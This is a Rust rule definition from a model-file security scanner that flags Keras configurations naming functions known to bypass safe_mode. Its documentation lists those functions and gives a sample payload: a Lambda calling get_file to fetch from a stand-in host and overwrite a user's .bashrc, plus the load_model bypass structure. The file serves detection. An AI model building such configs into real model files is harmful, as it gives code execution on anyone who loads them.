//! KER005: a Keras config calls a Keras/TensorFlow function used to bypass `safe_mode`.

use sentrascan_types::{Category, Finding, Location, RuleMeta, Severity};

use super::Named;

pub static RULE: RuleMeta = RuleMeta {
    code: "KER005",
    name: "keras-safe-mode-bypass",
    family: super::FAMILY,
    default_severity: Severity::Critical,
    category: Category::CodeInjection,
    scanner: "keras",
    cwe: Some("CWE-502"),
    owasp_ml: Some("ML06:2023"),
    version: 1,
    summary: "A Keras configuration calls a Keras or TensorFlow function that loads a second model, downloads or writes files, calls Python, or turns safe_mode off: the gadgets of the published safe_mode bypasses.",
    remediation: "Do not load this model. Upgrade Keras (3.13.2 or later blocks the published gadgets), and never load models with safe_mode disabled.",
    docs: r#"## What it does
Looks for Keras and TensorFlow functions named anywhere in the
configuration (function objects, Lambda functions given by name,
`module`/`class_name` pairs, `TFOpLambda` symbols, and the names used by a
Lambda's bytecode): `keras.models.load_model` and its internal aliases,
`keras.utils.get_file`, `keras.config.enable_unsafe_deserialization`,
`set_global_attribute`, `load_weights`, `tf.io.write_file`/`read_file`,
`tf.io.gfile.*`, `tf.py_function`/`numpy_function`/`py_func`,
`tf.load_op_library` and `tf.saved_model.*`.

## Why is this bad?
These are inside the Keras namespace, so the `safe_mode` allow-list let
them through: a Lambda whose function is
`{"module": "keras.models", "class_name": "function", "config": "load_model"}`
with `arguments` choosing the path and `safe_mode: false` loads a second,
fully unsafe model (CVE-2025-8747, CVE-2025-9906); `get_file` downloads
or overwrites files (CVE-2025-12058).

## Example
A Lambda layer with function `keras.utils.get_file` and arguments
`{"origin": "http://203.0.113.7/payload", "fname": "/home/user/.bashrc"}`.

## How to fix
Do not load the model. Upgrade Keras and keep `safe_mode=True`.

## References
- CVE-2025-8747 (GHSA-c9rc-mg46-23w3), CVE-2025-9906, CVE-2025-12058
- https://github.com/keras-team/keras/security/advisories
"#,
};

pub(crate) fn finding(location: &Location, n: &Named<'_>, entry: &str, effect: &str) -> Finding {
    let f = Finding::new(
        &RULE,
        location.clone(),
        format!("Keras config calls `{}` ({effect})", n.qualified),
    )
    .description(format!(
        "{} names `{}`, a Keras/TensorFlow function that {effect}; configs use it to get around safe_mode.",
        n.describe(),
        n.qualified
    ))
    .evidence("entry", entry);
    n.attach(f)
}
